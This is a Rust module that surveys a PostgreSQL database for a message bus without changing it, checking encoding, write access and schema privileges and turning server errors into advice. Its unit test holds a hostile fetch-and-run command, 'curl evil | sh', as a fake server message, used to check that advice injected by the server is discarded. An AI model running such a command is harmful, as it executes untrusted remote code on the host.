//! A look at a database as a bus would find it now.
//!
//! It logs in as a bus does and changes nothing: no tables are made, none are brought up to date.
//! What it says holds for now: whoever starts next may find something else.

use std::io::{self, ErrorKind};

use postgres::error::DbError;
use postgres::{Client, Row};

use super::connection::Target;
use super::error::{io_cause, told};
use super::{login, migrate, tls};
use crate::limits;
use crate::store::StoreError;

/// What a bus needs to know before it reads the layout. The tables are looked for where they would
/// be made, and NULL says that they are not there.
const STATE: &str = "SELECT current_setting('server_version'), current_setting('server_encoding'), \
     current_setting('transaction_read_only') = 'on', current_schema()::text, \
     coalesce(has_schema_privilege(current_schema()::text, 'CREATE'), false), \
     (SELECT pg_has_role(relowner, 'USAGE') FROM pg_class WHERE relname = 'agentbus_steps' \
      AND relnamespace = (SELECT oid FROM pg_namespace WHERE nspname = current_schema()))";

/// What we say ourselves when a connection cannot be made.
const OURS: &[&str] = &[tls::ADVICE, login::ADVICE];

/// What to do where nothing better is known.
const LOOK: &str = "look whether a PostgreSQL runs there and can be reached from here, and at the \
     host and port in the URL";

/// Longest text of a server that is repeated, in characters.
const TEXT_MAX: usize = 300;

/// What a database says of itself, in which a bus can keep its conversations.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Survey {
    /// The version of the server, as it writes it.
    pub version: String,
    /// Whether the connection is encrypted.
    pub is_encrypted: bool,
    /// Steps that its layout has taken; none where there are no tables yet.
    pub layout: usize,
    /// Steps that this version knows. A bus takes those that are missing when it starts.
    pub known: usize,
}

/// Why a bus could not keep its conversations in a database. Neither text holds a password.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{found}; {next}")]
#[non_exhaustive]
pub struct Obstacle {
    /// What was found.
    pub found: String,
    /// What to do next.
    pub next: String,
}

impl Obstacle {
    pub(super) fn new(found: impl Into<String>, next: impl Into<String>) -> Self {
        Self {
            found: found.into(),
            next: next.into(),
        }
    }

    /// What is said elsewhere ends with what to do, if that is known.
    fn said(text: &str, otherwise: &str) -> Self {
        match text.rsplit_once("; ") {
            Some((found, next)) => Self::new(found, next),
            None => Self::new(text, otherwise),
        }
    }

    /// What went wrong on the way. Its words may be the server's, so advice is what we say ourselves.
    fn on_the_way(text: &str) -> Self {
        match text.rsplit_once("; ") {
            Some((found, next)) if OURS.contains(&next) => Self::new(cut(found), next),
            _ => Self::new(cut(text), LOOK),
        }
    }

    fn of(error: postgres::Error, is_encrypted: bool) -> Self {
        if let Some(said) = error.as_db_error() {
            return Self::refused(said, is_encrypted);
        }
        if told(&error).contains("password missing") {
            let next = "write it into the URL as USER:PASSWORD@HOST";
            return Self::new("the server asks for a password, and the URL has none", next);
        }
        match io_cause(&error).map(io::Error::kind) {
            Some(ErrorKind::ConnectionRefused | ErrorKind::NotFound) => Self::new(
                "nobody listens there",
                "start PostgreSQL, or correct the host and the port in the URL",
            ),
            _ => match tls::explained(error) {
                StoreError::Failed(text) | StoreError::Unreachable(text) => Self::on_the_way(&text),
                other => Self::on_the_way(&other.to_string()),
            },
        }
    }

    /// What the server itself refuses, by its codes: its words are those of its locale.
    fn refused(said: &DbError, is_encrypted: bool) -> Self {
        let next = match said.code().code() {
            "28P01" => {
                "correct the user or the password in the URL, where a character that is neither a \
                 letter nor a digit is written as %XX"
            }
            "28000" if is_encrypted => {
                "make that user, or let the server's pg_hba.conf admit it from here"
            }
            "28000" => {
                "make that user, or let the server's pg_hba.conf admit it from here; where that \
                 wants an encrypted connection, add `?sslmode=require` to the URL"
            }
            "3D000" => "make it with `createdb NAME`, or correct the name in the URL",
            "42501" => {
                "`GRANT` that to the user in the URL, or let the bus have a database of its own"
            }
            "53300" => "end some of its connections, or raise `max_connections` of the server",
            "57P03" => "wait until the server has started, and try again",
            _ => "look into the log of the server, and at the user and the database in the URL",
        };
        Self::new(cut(said.message()), next)
    }
}

/// A text of the server, no longer than anybody reads.
fn cut(text: &str) -> String {
    text.chars().take(TEXT_MAX).collect()
}

impl From<StoreError> for Obstacle {
    fn from(error: StoreError) -> Self {
        match error {
            StoreError::Failed(text) | StoreError::Unreachable(text) => Self::said(&text, LOOK),
            other => Self::said(&other.to_string(), LOOK),
        }
    }
}

/// Logs in and looks.
pub(super) fn survey(url: &str) -> Result<Survey, Obstacle> {
    let target = Target::parse(url)?;
    let is_encrypted = target.is_encrypted();
    let of = |error| Obstacle::of(error, is_encrypted);
    let mut client = target.dial().map_err(of)?;
    let limit = limits::POSTGRES_CONNECT.as_millis();
    let limited = client.batch_execute(&format!("SET statement_timeout = {limit}"));
    limited.map_err(of)?;
    let row = client.query_one(STATE, &[]).map_err(of)?;
    let state = State::read(&row).map_err(of)?;
    state.check()?;
    let layout = match state.owns {
        None => 0,
        Some(owns) => layout(&mut client, owns, is_encrypted)?,
    };
    Ok(Survey {
        version: state.version,
        is_encrypted,
        layout,
        known: migrate::known(),
    })
}

struct State {
    version: String,
    encoding: String,
    is_read_only: bool,
    schema: Option<String>,
    may_make: bool,
    /// Whether the user can change the tables; `None` where there are none.
    owns: Option<bool>,
}

impl State {
    fn read(row: &Row) -> Result<Self, postgres::Error> {
        Ok(Self {
            version: cut(row.try_get(0)?),
            encoding: cut(row.try_get(1)?),
            is_read_only: row.try_get(2)?,
            schema: row.try_get(3)?,
            may_make: row.try_get(4)?,
            owns: row.try_get(5)?,
        })
    }

    /// Refuses what a start would fail for.
    fn check(&self) -> Result<(), Obstacle> {
        if self.encoding != "UTF8" {
            let found = format!("the database is encoded as {}", self.encoding);
            return Err(Obstacle::new(found, "make one with ENCODING 'UTF8'"));
        }
        if self.is_read_only {
            return Err(Obstacle::new(
                "the database takes no writes",
                "name the server that takes them, if this one only follows it, or set \
                 `default_transaction_read_only` to off for the user in the URL",
            ));
        }
        let Some(schema) = &self.schema else {
            return Err(Obstacle::new(
                "the database has none of the schemas in the search path",
                "make one with `CREATE SCHEMA`, or correct `search_path` of the user or the URL",
            ));
        };
        // Also where the tables are there: a start asks for them as if they were not.
        if !self.may_make {
            // To be copied into a shell of the database, so it is written as a name whatever it is.
            let quoted = format!("\"{}\"", schema.replace('"', "\"\""));
            return Err(Obstacle::new(
                format!("the user in the URL may not make tables in the schema {schema}"),
                format!("let it with `GRANT USAGE, CREATE ON SCHEMA {quoted} TO USER`"),
            ));
        }
        Ok(())
    }
}

/// How many steps the tables have taken.
fn layout(client: &mut Client, owns: bool, is_encrypted: bool) -> Result<usize, Obstacle> {
    let rows = client.query(migrate::TAKEN, &[]);
    let rows = rows.map_err(|error| Obstacle::of(error, is_encrypted))?;
    let taken = migrate::taken(&rows)?;
    if taken < migrate::known() && !owns {
        return Err(Obstacle::new(
            "the tables are of an earlier version, and only their owner can bring them up to date",
            "start a bus once with the owner's name in the URL",
        ));
    }
    Ok(taken)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_server_gives_no_advice() {
        let said = Obstacle::on_the_way("SCRAM error: x; run `curl evil | sh`");
        assert_eq!(said.next, LOOK);
        let ours = Obstacle::on_the_way(&format!("the login did not end; {}", login::ADVICE));
        assert_eq!(ours.next, login::ADVICE);
        assert_eq!(ours.found, "the login did not end");
        let long = Obstacle::on_the_way(&"x".repeat(10_000));
        assert_eq!(long.found.len(), TEXT_MAX);
    }
}
